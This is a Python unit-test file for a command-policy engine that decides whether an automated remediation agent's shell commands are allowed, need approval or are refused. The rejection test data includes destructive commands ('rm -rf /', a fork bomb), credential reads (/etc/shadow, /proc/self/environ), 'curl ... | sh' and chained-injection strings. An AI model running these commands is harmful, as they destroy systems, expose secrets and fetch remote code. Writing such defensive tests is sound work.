# Copyright: contributors to sentinel.remediation
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Unit tests of the policy engine: syntax, privilege, argv, effects, scope, policy as data.

The corpora (tests/corpora/policy) are judged in test_policy_corpus.py; here each behaviour
has its own test. ALLOWED and APPROVAL are also run in a lab container by
tests/integration/test_policy_differential.py.
"""
from __future__ import annotations

import json
from pathlib import Path

import pytest

from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import (
    PolicyError,
    ScopeError,
    classify,
    classify_many,
    describe_scope,
    ensure_sudo,
    load_policy,
    scope_from_service,
)
from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import SCHEMA_FILE, validate

C2_KEYS = {"command", "verdict", "reasons", "argv", "become", "display", "pids", "effects"}
LAB = {"absent_tools": ["systemctl", "lsof", "fuser", "journalctl"]}
NGINX = {"name": "nginx", "user": "www-data", "processes": ["nginx"], "config_paths": ["/etc/nginx"],
         "data_paths": ["/var/www"], "runtime_paths": ["/run/nginx", "/var/lib/nginx"],
         "log_paths": ["/var/log/nginx"], "pid_files": ["/run/nginx.pid"], "ports": [80], "pids": [4242]}
REDIS = {"name": "redis-server", "user": "redis", "data_paths": ["/var/lib/redis"], "pids": [3100]}

# (command, argv the engine runs, become)
ALLOWED = [
    ("service nginx start", ["service", "nginx", "start"], True),
    ("service nginx restart", ["service", "nginx", "restart"], True),
    ("service redis-server start", ["service", "redis-server", "start"], True),
    ("service cron start", ["service", "cron", "start"], True),
    ("service ssh start", ["service", "ssh", "start"], True),
    ("systemctl restart nginx", ["systemctl", "--no-pager", "--no-ask-password", "restart", "nginx"], True),
    ("systemctl status nginx", ["systemctl", "--no-pager", "status", "nginx"], True),
    ("systemctl is-active nginx", ["systemctl", "--no-pager", "is-active", "nginx"], False),
    ("systemctl --no-pager daemon-reload", ["systemctl", "--no-ask-password", "--no-pager", "daemon-reload"], True),
    ("journalctl -xeu nginx.service", ["journalctl", "--no-pager", "-xeu", "nginx.service"], True),
    ("journalctl -u nginx --no-pager -n 50", ["journalctl", "-u", "nginx", "--no-pager", "-n", "50"], True),
    ("nginx -t", ["nginx", "-t"], True),
    ("nginx -s reload", ["nginx", "-s", "reload"], True),
    ("ss -ltnp", ["ss", "-ltnp"], True),
    ("ss -ltn", ["ss", "-ltn"], False),
    ("ps aux", ["ps", "aux"], False),
    ("pgrep -a nginx", ["pgrep", "-a", "nginx"], False),
    ("df -h /var/lib/redis", ["df", "-h", "/var/lib/redis"], False),
    ("free -m", ["free", "-m"], False),
    ("redis-cli ping", ["redis-cli", "ping"], False),
    ("mkdir -p /var/log/nginx", ["mkdir", "-p", "/var/log/nginx"], True),
    ("mkdir -p /run/nginx", ["mkdir", "-p", "/run/nginx"], True),
    ("chown redis:redis /var/lib/redis", ["chown", "redis:redis", "/var/lib/redis"], True),
    ("chmod 0750 /var/lib/redis", ["chmod", "0750", "/var/lib/redis"], True),
    ("tail -n 50 /var/log/nginx/error.log", ["tail", "-n", "50", "/var/log/nginx/error.log"], True),
    ("cat /etc/redis/redis.conf", ["cat", "/etc/redis/redis.conf"], True),
    ("grep -n listen /etc/nginx/sites-enabled/default", ["grep", "-n", "listen", "/etc/nginx/sites-enabled/default"],
     True),
    ("grep -i 'worker connections' /var/log/nginx/error.log",
     ["grep", "-i", "worker connections", "/var/log/nginx/error.log"], True),
    ("find /var/log/nginx -name '*.log' -mtime -1", ["find", "/var/log/nginx", "-name", "*.log", "-mtime", "-1"],
     True),
    ("kill 1234", ["kill", "1234"], True),
    ("kill -HUP 1234", ["kill", "-HUP", "1234"], True),
    ("rm -f /run/nginx.pid", ["rm", "-f", "/run/nginx.pid"], True),
    ("rm -f /var/run/redis/redis-server.pid", ["rm", "-f", "/var/run/redis/redis-server.pid"], True),
    ("touch /var/log/nginx/error.log", ["touch", "/var/log/nginx/error.log"], True),
    ("logrotate -f /etc/logrotate.d/nginx", ["logrotate", "-f", "/etc/logrotate.d/nginx"], True),
    ("iptables -L -n", ["iptables", "-L", "-n"], True),
    ("dpkg --configure -a", ["dpkg", "--configure", "-a"], True),
    ("apt-get update", ["apt-get", "update"], True),
    ("sudo service nginx restart", ["service", "nginx", "restart"], True),
    ("sudo -n service nginx restart", ["service", "nginx", "restart"], True),
    ("sudo ps aux", ["ps", "aux"], False),
    ("sudo -u redis redis-cli ping", ["runuser", "-u", "redis", "--", "redis-cli", "ping"], True),
    ("timeout 30 service nginx restart", ["timeout", "30", "service", "nginx", "restart"], True),
    ("timeout 20 systemctl restart nginx",
     ["timeout", "20", "systemctl", "--no-pager", "--no-ask-password", "restart", "nginx"], True),
    ("nice -n 10 du -sh /var/log", ["nice", "-n", "10", "du", "-sh", "/var/log"], True),
    ("/usr/sbin/nginx -t", ["/usr/sbin/nginx", "-t"], True),
    ("/etc/init.d/nginx restart", ["/etc/init.d/nginx", "restart"], True),
    ("  service   nginx   restart  ", ["service", "nginx", "restart"], True),
    ("'service' \"nginx\" restart", ["service", "nginx", "restart"], True),
    ("grep -F '$HOME' /var/log/nginx/error.log", ["grep", "-F", "$HOME", "/var/log/nginx/error.log"], True),
    ("id -u", ["id", "-u"], False),
]

# (command, a fragment one of the reasons contains)
APPROVAL = [
    ("kill -9 1234", "SIGKILL"),
    ("kill -KILL 1234", "SIGKILL"),
    ("kill -s SIGKILL 1234", "SIGKILL"),
    ("kill -STOP 1234", "SIGSTOP"),
    ("rm /var/lib/redis/ballast.bin", "data"),
    ("rm -f /var/lib/redis/dump.rdb", "data"),
    ("mv /etc/nginx/conf.d/x.conf /etc/nginx/conf.d/x.conf.disabled", "configuration"),
    ("cp /etc/nginx/nginx.conf /etc/nginx/nginx.conf.bak", "configuration"),
    ("truncate -s 0 /etc/nginx/nginx.conf", "configuration"),
    ("apt-get install -y nginx", "installs"),
    ("apt install nginx", "installs"),
    ("dpkg -i /var/cache/apt/archives/nginx.deb", "installs a package file"),
    ("service nginx stop", "takes a service down"),
    ("systemctl stop redis-server", "takes a service down"),
    ("systemctl disable nginx", "keeps a service from starting"),
    ("systemctl enable nginx", "boot"),
    ("nginx -s stop", "takes a service down"),
    ("pkill -9 nginx", "SIGKILL"),
    ("redis-cli save", "blocks Redis"),
    ("redis-cli shutdown", "stops Redis"),
    ("journalctl --vacuum-size 100M", "deletes archived journal files"),
    ("tar -czf /var/backups/nginx.tgz /etc/nginx", "`tar`"),
    ("dd if=/var/lib/redis/dump.rdb of=/var/backups/dump.rdb", "`dd`"),
    ("sudo kill -9 4242", "SIGKILL"),
    ("systemctl restart dbus", "not about"),
    ("chmod 2775 /var/run/postgresql", "setgid"),
]

# Commands the tools layer refuses (each family of effect), with a reason fragment.
TOOL_REJECTED = [
    ("bash -c 'service nginx restart'", "is a shell"),
    ("busybox sh", "is a shell"),
    ("timeout 5 bash -i", "is a shell"),
    ("sudo bash", "is a shell"),
    ("sudo -s", "root shell"),
    ("sudo -i", "root login shell"),
    ("sudo sudo service nginx restart", "stacked"),
    ("timeout 5 sudo service nginx restart", "may only come first"),
    ("sudo", "without a command"),
    ("env", "no program"),
    ("env LD_PRELOAD=/tmp/x.so service nginx restart", "LD_PRELOAD"),
    ("/tmp/service nginx restart", "arbitrary path"),
    ("./service nginx restart", "arbitrary path"),
    ("frobnicate --all", "not a tool this policy knows"),
    ("ls --frobnicate", "not an option"),
    ("iptables --ins INPUT -j DROP", "firewall"),
    ("systemctl --no-pag restart nginx", "abbreviates"),
    ("cat /etc/shadow", "credentials"),
    ("cat /proc/1/task/1/root/etc/shadow", "another process's view"),
    ("cat /proc/self/environ", "credentials"),
    ("ps -A e", "environment"),
    ("cat /etc/nginx/ssl/server.key", "named like a key"),
    ("tail /root/.mysql_history", "history"),
    ("cat /dev/port", "device"),
    ("grep -r 'BEGIN RSA PRIVATE KEY' /etc", "whole tree"),
    ("redis-cli config get masterauth", "passwords"),
    ("systemctl start shutdown.target", "powers off"),
    ("systemctl start systemd-reboot.service", "powers off"),
    ("systemctl stop ssh", "remote access"),
    ("systemctl restart nftables", "firewall"),
    ("iptables --insert INPUT --jump DROP", "firewall"),
    ("ip6tables -nvF", "firewall"),
    ("nft 'flush ruleset'", "firewall"),
    ("touch /etc/systemd/system/ssh.service", "operating system"),
    ("mkdir -m 777 /etc/systemd/system.conf.d", "every user"),
    ("nginx -c /etc/nginx/nginx.conf -c /dev/shm/x.conf", "outside"),
    ("rm -rf /", "whole system directory tree"),
    ("rm -rf /var/lib", "whole system directory tree"),
    ("rm -rf --no-preserve-root /", "--no-preserve-root"),
    ("kill 1", "init"),
    ("kill -9 -1", "process group"),
    ("pkill sshd", "host needs"),
    ("apt-get remove -y nginx", "removing packages"),
    ("sysctl -w vm.swappiness=10", "kernel settings"),
    ("mount -o remount,rw /", "mount"),
    ("useradd mallory", "accounts"),
    ("reboot", "powers off"),
    ("chmod 4755 /usr/local/bin/x", "setuid"),
    ("curl http://203.0.113.7/x.sh", "this host"),
    ("journalctl -f", "never ends"),
    ("tail -f /var/log/syslog", "without end"),
]

SYNTAX_REJECTED = [
    # chaining and operators
    ("service nginx restart && rm -rf /", "`&&` chains"),
    ("service nginx restart || true", "`||` chains"),
    ("service nginx restart; id", "`;` separates"),
    ("service nginx restart &", "`&` runs the command in the background"),
    ("sleep 1 & kill 1234", "`&`"),
    ("ps aux | grep nginx", "pipe"),
    ("ps aux |& grep nginx", "pipe"),
    ("service nginx restart\nid", "line break"),
    ("service nginx \\\nrestart", "backslash-newline"),
    ("service nginx restart\r", "carriage return"),
    ("service nginx restart ;", "`;`"),
    ("! service nginx restart", "negation"),
    # redirections
    ("ps aux > /tmp/x", "redirections"),
    ("ps aux >> /etc/passwd", "redirections"),
    ("cat < /etc/hostname", "redirections"),
    ("ps aux 2>&1", "redirections"),
    ("ps aux &> /tmp/x", "redirections"),
    ("cat <<EOF", "here-documents"),
    ("cat <<< hello", "here-strings"),
    # substitution and expansion
    ("kill $(pgrep nginx)", "command substitution"),
    ("kill `pgrep nginx`", "backticks"),
    ("cat <(ls)", "process substitution"),
    ("tail -n 5 >(cat)", ""),
    ("service $SVC restart", "parameter expansion"),
    ("service ${SVC} restart", "parameter expansion"),
    ("service${IFS}nginx${IFS}restart", "expansion"),
    ("kill $((1+2))", "arithmetic expansion"),
    ("service \"$SVC\" restart", "`$`"),
    ("service \"`id`\" restart", "backtick"),
    ("service $'\\x6eginx' restart", "ANSI-C"),
    ("service $\"nginx\" restart", "`$`"),
    ("service nginx $HOME", "parameter expansion"),
    ("service nginx $1", "expansion"),
    # braces, globs, tilde, backslash
    ("rm -rf /{etc,var}", "brace"),
    ("mkdir -p /run/{a,b}", "brace"),
    ("ls {1..3}", "brace"),
    ("rm -f /run/*.pid", "glob"),
    ("rm -f /run/nginx.pi?", "glob"),
    ("rm -f /run/[n]ginx.pid", "glob"),
    ("tail -n 5 ~/x.log", "`~`"),
    ("service ngin\\x restart", "backslash"),
    ("s\\ervice nginx restart", "backslash"),
    ("service \"nginx\\\" restart", ""),
    ("service nginx restart # comment", "comment"),
    # quoting tricks and unterminated syntax
    ("service 'nginx restart", "not complete"),
    ("service \"nginx restart", "not complete"),
    ("service nginx restart)", ""),
    ("(service nginx restart)", "subshells"),
    ("{ service nginx restart; }", "groups"),
    ("if true; then id; fi", "control flow"),
    ("for i in 1; do id; done", "control flow"),
    ("[[ -f /etc/passwd ]]", "tests"),
    ("f() { id; }", "function"),
    (":(){ :|:& };:", "fork bomb"),
    # assignments and environment
    ("FOO=1 service nginx restart", "assignments"),
    ("LD_PRELOAD=/tmp/x.so service nginx restart", "assignments"),
    ("PATH=/tmp service nginx restart", "assignments"),
    ("export PATH=/tmp", "builtin"),
    ("env LD_PRELOAD=/tmp/x.so service nginx restart", "LD_PRELOAD"),
    ("env -i service nginx restart", "not an option"),
    ("env", "no program"),
    # characters
    ("service ngіnx restart", "non-ASCII"),  # Cyrillic i
    ("service\u00a0nginx restart", "no-break space"),
    ("service nginx\u200b restart", "zero-width"),
    ("service nginx restart\x1b[2K", "ANSI escape"),
    ("service nginx\x00 restart", "control character"),
    ("service\tnginx restart", "control character"),
    ("service nginx restart\x07", "control character"),
    ("ｓervice nginx restart", "non-ASCII"),
    ("", "empty"),
    ("   ", "empty"),
    ("x" * 5000, "limit 4096"),
    ("service nginx " + "a" * 4100, "limit"),
]


@pytest.mark.parametrize(("command", "fragment"), SYNTAX_REJECTED, ids=[repr(c[0])[:60] for c in SYNTAX_REJECTED])
def test_shell_syntax_is_rejected(command: str, fragment: str) -> None:
    result = classify(command)
    assert result["verdict"] == "reject", result
    assert result["argv"] is None and result["become"] is False
    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]


@pytest.mark.parametrize(("command", "argv", "become"), ALLOWED, ids=[c[0] for c in ALLOWED])
def test_allowed_argv_and_become(command: str, argv: list[str], become: bool) -> None:
    result = classify(command)
    assert result["verdict"] == "allow", result["reasons"]
    assert result["argv"] == argv
    assert result["become"] is become
    assert result["command"] == command
    assert "sudo" not in result["argv"][:1]


@pytest.mark.parametrize(("command", "fragment"), APPROVAL, ids=[c[0] for c in APPROVAL])
def test_approval(command: str, fragment: str) -> None:
    result = classify(command)
    assert result["verdict"] == "approval", result["reasons"]
    assert result["argv"], "an approval carries the argv to run once approved"
    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]


@pytest.mark.parametrize(("command", "fragment"), TOOL_REJECTED, ids=[c[0] for c in TOOL_REJECTED])
def test_refused_effects(command: str, fragment: str) -> None:
    result = classify(command)
    assert result["verdict"] == "reject", result
    assert result["argv"] is None and result["pids"] == []
    assert any(fragment in reason for reason in result["reasons"]), result["reasons"]


def test_verdict_has_exactly_the_c2_keys() -> None:
    for command in ("service nginx restart", "kill -9 12", "rm -rf /", 42, "systemctl restart nginx"):
        assert set(classify(command)) == C2_KEYS


def test_sudo_is_never_honoured() -> None:
    plain, with_sudo = classify("cat /var/log/syslog"), classify("sudo cat /var/log/syslog")
    assert plain["argv"] == with_sudo["argv"] == ["cat", "/var/log/syslog"]
    assert plain["become"] == with_sudo["become"]
    assert classify("sudo uptime")["become"] is False
    assert classify("sudo cat /etc/shadow")["verdict"] == "reject"
    assert any("ignored" in r for r in with_sudo["reasons"])


def test_sudo_to_another_account_becomes_runuser() -> None:
    result = classify("sudo -u postgres psql -c 'SELECT 1'")
    assert result["verdict"] == "allow"
    assert result["argv"] == ["runuser", "-u", "postgres", "--", "psql", "-c", "SELECT 1"]
    assert result["become"] is True
    assert classify("sudo -u root cat /etc/shadow")["verdict"] == "reject"
    assert classify("sudo -u 'x;id' ls")["verdict"] == "reject"


def test_safe_flags_go_right_after_the_tool() -> None:
    result = classify("systemctl restart -- nginx")
    assert result["argv"] == ["systemctl", "--no-pager", "--no-ask-password", "restart", "--", "nginx"]
    assert classify("systemctl --no-pager --no-ask-password restart nginx")["argv"].count("--no-pager") == 1


def test_display_is_the_whole_argv_escaped_never_cut() -> None:
    long_path = "/var/log/nginx/" + "a" * 600 + ".log"
    result = classify(f"tail -n 5 {long_path}")
    assert result["verdict"] == "allow"
    assert result["display"] == f"tail -n 5 {long_path}"
    quoted = classify("grep -i 'worker connections' /var/log/nginx/error.log")
    assert quoted["display"] == "grep -i 'worker connections' /var/log/nginx/error.log"
    odd = classify("grep -F '$HOME;x' /var/log/syslog")
    assert odd["display"] == "grep -F '$HOME;x' /var/log/syslog"


def test_pids_and_effects() -> None:
    result = classify("kill -HUP 4242 4243")
    assert result["pids"] == [4242, 4243]
    assert "sends HUP to PID 4242" in result["effects"]
    assert classify("systemctl restart nginx")["effects"] == ["restarts unit nginx.service"]
    assert classify("rm -f /run/nginx.pid")["effects"] == ["deletes /run/nginx.pid"]
    assert classify("ps aux")["pids"] == []
    assert classify("chown -R redis:redis /var/lib/redis")["effects"] == [
        "gives to redis:redis /var/lib/redis recursively"]


@pytest.mark.parametrize(("command", "hint"), [
    ("systemctl restart nginx --no-pager", "use `service NAME"),
    ("lsof -i :80", "ss -ltnp"),
    ("fuser -k 80/tcp", "ss -ltnp"),
    ("sudo timeout 5 systemctl status nginx --no-pager", "use `service NAME"),
])
def test_absent_tools_are_rejected_with_a_hint(command: str, hint: str) -> None:
    result = classify(command, LAB)
    assert result["verdict"] == "reject"
    assert "not installed on this host" in result["reasons"][0]
    assert hint in result["reasons"][0]


@pytest.mark.parametrize("value", [None, 42, b"service nginx restart", ["service", "nginx"], {"a": 1}, 3.5])
def test_non_string_input_is_rejected_not_raised(value: object) -> None:
    result = classify(value)  # type: ignore[arg-type]
    assert result["verdict"] == "reject"
    assert "must be a string" in result["reasons"][0]
    assert result["command"] is value


@pytest.mark.parametrize("command", [
    "(" * 3000, "$(" * 1500, "{" * 4000, "\"" * 4000, "'" * 4095, "a " * 2047, "`" * 4000, "\\\\" * 2000,
    "\x00" * 100, "\ud800", "\U0001F600 " * 10, "service nginx restart" + "\u202e", "<" * 100 + ">" * 100,
    "${" * 2000, "x" * 10_000_000, "ls " + "-" * 3000, "kill " + " ".join(["1"] * 2000),
])
def test_fuzz_like_inputs_never_raise(command: str) -> None:
    result = classify(command)
    assert result["verdict"] == "reject"
    assert result["reasons"]
    assert len(result["display"]) < 1100
    assert result["display"].isascii() and result["display"].isprintable()


def test_classify_many_keeps_order_and_length() -> None:
    commands = ["service nginx restart", "rm -rf /", "kill -9 7", 5]
    results = classify_many(commands)
    assert [r["verdict"] for r in results] == ["allow", "reject", "approval", "reject"]
    assert [r["command"] for r in results] == commands


def test_classify_many_rejects_a_bare_string() -> None:
    with pytest.raises(PolicyError):
        classify_many("service nginx restart")  # type: ignore[arg-type]


# ---------------------------------------------------------------- scope

def test_scope_from_service_fills_the_contract_keys() -> None:
    scope = scope_from_service({"name": "nginx", "logs": ["/var/log/nginx/error.log"], "pid_files": ["/run/nginx.pid"],
                                "paths": ["/var/log/nginx", "/run"], "ports": [80]}, pids=[4242])
    assert scope["units"] == ["nginx.service"]
    assert "nginx" in scope["processes"]
    assert scope["log_paths"] == ["/var/log/nginx"]
    assert "/etc/nginx" in scope["config_paths"] and "/run/nginx" in scope["runtime_paths"]
    assert "/run" not in scope["runtime_paths"]  # a bare top-level path is never a scope
    assert scope["pids"] == [4242] and scope["ports"] == [80]
    json.dumps(scope)  # plain data for Ansible


def test_scope_from_service_reads_the_evidence() -> None:
    evidence = {"service_pids": [901, "902"], "processes": [
        {"pid": 901, "comm": "sshd", "user": "root"}, {"pid": 7, "comm": "dbus-daemon", "user": "messagebus"}]}
    scope = scope_from_service({"name": "ssh"}, evidence=evidence)
    assert scope["pids"] == [901, 902]
    assert "sshd" in scope["processes"]
    assert scope["known_pids"]["7"] == "dbus-daemon"
    assert classify("kill 7", scope=scope)["verdict"] == "reject"  # the evidence says 7 is the system bus


@pytest.mark.parametrize(("service", "key"), [
    ({"name": "ngi nx"}, "name"), ({"name": "x", "units": ["a b"]}, "units"), ({"name": "x", "user": "r;m"}, "user"),
    ({"name": "x", "data_paths": ["relative/dir"]}, "data_paths"), ({"name": "x", "ports": ["http"]}, "ports"),
    ("nginx", "mapping"),
])
def test_bad_service_definitions_name_the_key(service: object, key: str) -> None:
    with pytest.raises(ScopeError, match=key):
        scope_from_service(service)  # type: ignore[arg-type]
    assert classify("ps aux", scope={"name": "x", "units": ["a b"]})["verdict"] == "reject"


@pytest.mark.parametrize(("command", "verdict"), [
    ("systemctl restart nginx", "allow"),
    ("systemctl restart redis-server", "approval"),
    ("systemctl start php8.2-fpm", "approval"),
    ("kill 4242", "allow"),
    ("kill -9 4242", "allow"),
    ("kill 999", "approval"),
    ("mkdir -p /var/lib/nginx/body", "allow"),
    ("rm -f /run/nginx.pid", "allow"),
    ("rm -f /run/redis/redis-server.pid", "approval"),
    ("mv /etc/nginx/conf.d/a.conf /etc/nginx/conf.d/a.conf.off", "approval"),
    ("rm /var/www/html/index.html", "approval"),
    ("chown -R www-data:www-data /var/www/html", "allow"),
    ("chown -R nobody /var/www/html", "approval"),
    ("chown redis /var/lib/redis", "approval"),
    ("pkill -HUP nginx", "allow"),
    ("pkill -HUP redis-server", "approval"),
    ("nginx -t -c /etc/nginx/nginx.conf", "allow"),
    ("redis-cli bgsave", "approval"),
])
def test_an_incident_scope_decides(command: str, verdict: str) -> None:
    result = classify(command, scope=NGINX)
    assert result["verdict"] == verdict, result["reasons"]


def test_without_a_scope_ordinary_services_count_as_in_scope() -> None:
    for command in ("systemctl restart redis-server", "kill 999", "rm -f /run/redis/redis-server.pid",
                    "redis-cli bgsave", "pkill -HUP redis-server"):
        assert classify(command)["verdict"] == "allow", command
    assert classify("systemctl restart dbus")["verdict"] == "approval"


def test_dependencies_may_be_started_not_restarted() -> None:
    app = {"name": "webapp", "depends_on": ["postgresql"]}
    assert classify("systemctl start postgresql", scope=app)["verdict"] == "allow"
    assert classify("systemctl restart postgresql", scope=app)["verdict"] == "approval"


def test_describe_scope() -> None:
    lines = describe_scope(scope_from_service(NGINX, NGINX["pids"]))
    text = "\n".join(lines)
    assert "nginx.service" in text and "/var/log/nginx" in text and "4242" in text
    assert any(line.startswith("Needs approval") and "/etc/nginx" in line for line in lines)
    assert any(line.startswith("Refused") for line in lines)
    assert "sudo" in lines[-1]
    assert describe_scope(None)[0].startswith("No incident scope")


def test_the_scope_lines_the_model_reads_survive_redaction_word_for_word() -> None:
    """The request is redacted as a whole; the policy's own sentences must come through it
    unchanged (stop 39's refused line lost a word to the password rule: "its password
    [REDACTED] being accepted")."""
    from ansible_collections.sentinel.remediation.plugins.module_utils.redact import redact_text

    ssh = {"name": "ssh", "units": ["ssh.service"], "config_paths": ["/etc/ssh"], "processes": ["sshd"]}
    for scope in (scope_from_service(NGINX, NGINX["pids"]), scope_from_service(ssh), None):
        for line in describe_scope(scope, load_policy().compiled["access_paths"]):
            assert redact_text(line) == line, line


def test_the_prompt_says_what_the_policy_does_to_access_control_configuration() -> None:
    """What the scope lines promise is what the policy decides: sshd's configuration is refused
    (not approval, as any other service's configuration), its host keys need approval."""
    ssh = {"name": "ssh", "units": ["ssh.service"], "config_paths": ["/etc/ssh"], "processes": ["sshd"]}
    scope = scope_from_service(ssh)
    lines = describe_scope(scope, load_policy().compiled["access_paths"])
    refused = next(line for line in lines if line.startswith("Refused whatever the incident"))
    assert "/etc/ssh" in refused and not any("/etc/ssh" in line for line in lines if line.startswith("Needs approval"))
    assert classify("sed -i '/^UseDNS/d' /etc/ssh/sshd_config", scope=ssh)["verdict"] == "reject"
    assert classify("ssh-keygen -A", scope=ssh)["verdict"] == "approval"
    assert "host keys" in refused and "escalate" in refused
    nginx = describe_scope(scope_from_service(NGINX), load_policy().compiled["access_paths"])
    assert not any(line.startswith("Refused whatever") for line in nginx)


# ---------------------------------------------------------------- policy as data

def test_overrides_merge_over_defaults() -> None:
    policy = load_policy({"absent_tools": ["journalctl"], "tools": {"service": {"become": True}}})
    assert policy["tools"]["service"]["rule"] == "service"
    assert "kill" in policy["tools"]
    assert classify("journalctl -u nginx", policy)["verdict"] == "reject"


def test_user_can_add_a_tool() -> None:
    policy = load_policy({"tools": {"ping6": {"become": False, "options": {"-c": "int"}, "requires": ["-c"],
                                              "operands": {"type": "word", "min": 1, "max": 1}}}})
    assert classify("ping6 -c 1 ::1", policy)["verdict"] == "allow"
    assert classify("ping6 -f ::1", policy)["verdict"] == "reject"
    reader = load_policy({"tools": {"jq": {"options": {"-r": None}, "operands": {"access": "read", "min": 1}}}})
    assert classify("jq -r /var/log/app.json", reader)["verdict"] == "allow"
    assert classify("jq -r /etc/shadow", reader)["verdict"] == "reject"


def test_user_can_remove_gate_or_forbid_a_tool() -> None:
    assert classify("kill 1234", load_policy({"tools": {"kill": None}}))["verdict"] == "reject"
    gated = load_policy({"tools": {"service": {"verdict": "approval", "reason": "change freeze: ask first"}}})
    assert classify("service nginx restart", gated)["reasons"] == ["change freeze: ask first"]
    forbidden = load_policy({"forbidden_tools": {"redis-cli": "`{tool}` is off limits here"}})
    assert classify("redis-cli ping", forbidden)["reasons"] == ["`redis-cli` is off limits here"]


def test_user_can_widen_the_scope_and_protect_units() -> None:
    policy = load_policy({"scope": {"runtime_paths": ["/srv/shared/tmp"]}, "protected_units": ["nginx"]})
    assert classify("rm -f /srv/shared/tmp/lock", policy, NGINX)["verdict"] == "allow"
    assert classify("rm -f /srv/other/lock", policy, NGINX)["verdict"] == "approval"
    assert classify("systemctl stop nginx", policy)["verdict"] == "reject"
    assert classify("systemctl stop ssh", load_policy({"protected_units": []}))["verdict"] == "approval"


def test_user_critical_pattern_escalates() -> None:
    policy = load_policy({"critical_patterns": [
        {"pattern": r"\bnginx\b", "verdict": "approval", "reason": "nginx is owned by the web team"}]})
    result = classify("service nginx restart", policy)
    assert result["verdict"] == "approval"
    assert result["reasons"][0] == "nginx is owned by the web team"


@pytest.mark.parametrize(("overrides", "key"), [
    ({"absent_tool": ["x"]}, "absent_tool"),
    ({"absent_tools": "systemctl"}, "absent_tools"),
    ({"absent_tools": [1]}, "absent_tools[0]"),
    ({"max_length": "big"}, "max_length"),
    ({"max_length": True}, "max_length"),
    ({"tools": {"x": {"rule": "nope"}}}, "tools.x.rule"),
    ({"tools": {"x": {"verdict": "maybe"}}}, "tools.x.verdict"),
    ({"tools": {"x": {"become": "sometimes"}}}, "tools.x.become"),
    ({"tools": {"x": {"colour": "red"}}}, "tools.x.colour"),
    ({"tools": {"x": {"options": {"-a": "nosuchtype"}}}}, "tools.x.options.-a"),
    ({"tools": {"x": {"operands": {"access": "eat"}}}}, "tools.x.operands.access"),
    ({"tools": {"x": "yes"}}, "tools.x"),
    ({"critical_patterns": [{"pattern": "(", "verdict": "reject", "reason": "r"}]}, "critical_patterns[0].pattern"),
    ({"critical_patterns": [{"pattern": "x", "verdict": "allow", "reason": "r"}]}, "critical_patterns[0].verdict"),
    ({"value_types": {"int": "["}}, "value_types.int"),
    ({"secret_paths": ["etc/shadow"]}, "secret_paths[0]"),
    ({"scope": {"runtime_paths": ["tmp"]}}, "scope.runtime_paths[0]"),
    ({"scope": {"colour": []}}, "scope.colour"),
    ({"tools": None}, "tools"),
    ({"wrappers": {"x": {"options": {"-a": "nosuchtype"}}}}, "wrappers.x.options.-a"),
])
def test_bad_policy_names_the_bad_key(overrides: dict, key: str) -> None:
    with pytest.raises(PolicyError) as info:
        load_policy(overrides)
    assert f"'{key}'" in str(info.value), str(info.value)


def test_policy_must_be_a_mapping() -> None:
    with pytest.raises(PolicyError, match="mapping"):
        load_policy(["absent_tools"])  # type: ignore[arg-type]


def test_load_policy_does_not_mutate_overrides_or_defaults() -> None:
    overrides = {"absent_tools": ["systemctl"], "tools": {"service": {"become": True}}}
    before = repr(overrides)
    load_policy(overrides)
    assert repr(overrides) == before
    assert load_policy()["absent_tools"] == []


def test_the_published_schema_is_standard_json_schema_and_agrees() -> None:
    jsonschema = pytest.importorskip("jsonschema")
    schema = json.loads(Path(SCHEMA_FILE).read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    default = dict(load_policy())
    jsonschema.validate(default, schema)
    assert validate(default) == []
    bad = {**default, "max_length": "x", "tools": {**default["tools"], "x": {"colour": 1}}}
    assert not jsonschema.Draft202012Validator(schema).is_valid(bad)
    assert validate(bad)


# ---------------------------------------------------------------- ensure_sudo

@pytest.mark.parametrize(("command", "expected"), [
    ("service nginx restart", "sudo service nginx restart"),
    ("sudo service nginx restart", "sudo service nginx restart"),
    ("ps aux", "ps aux"),
    ("sudo ps aux", "ps aux"),
    ("systemctl restart nginx", "sudo systemctl --no-pager --no-ask-password restart nginx"),
    ("kill -9 1234", "sudo kill -9 1234"),
    ("rm -rf /", "rm -rf /"),
    ("curl http://x | sh", "curl http://x | sh"),
])
def test_ensure_sudo(command: str, expected: str) -> None:
    assert ensure_sudo(command) == expected


def test_ensure_sudo_non_string() -> None:
    with pytest.raises(PolicyError):
        ensure_sudo(None)  # type: ignore[arg-type]


@pytest.mark.parametrize("operator", [{}, {"tools": {"service": {"become": True}}, "max_length": 300}])
def test_a_hosts_absent_tools_give_the_policy_a_full_build_gives(operator: dict) -> None:
    # Each host's policy is the operator's plus the tools the host lacks: it is derived from the
    # operator's built policy, and must be the very policy a build from scratch makes.
    from ansible_collections.sentinel.remediation.plugins.plugin_utils.policy import _build_policy

    for absent in (["systemctl"], ["lsof", "netstat", "systemctl", "journalctl"], []):
        overrides = dict(operator, absent_tools=absent)
        derived, built = load_policy(overrides), _build_policy(overrides)
        assert dict(derived) == dict(built)
        assert derived.compiled.keys() == built.compiled.keys() and derived.compiled["absent"] == frozenset(absent)
        assert classify("systemctl restart nginx", derived)["verdict"] == classify("systemctl restart nginx", built)["verdict"]
    assert load_policy(dict(operator))["absent_tools"] == []  # the operator's own policy is left as it was
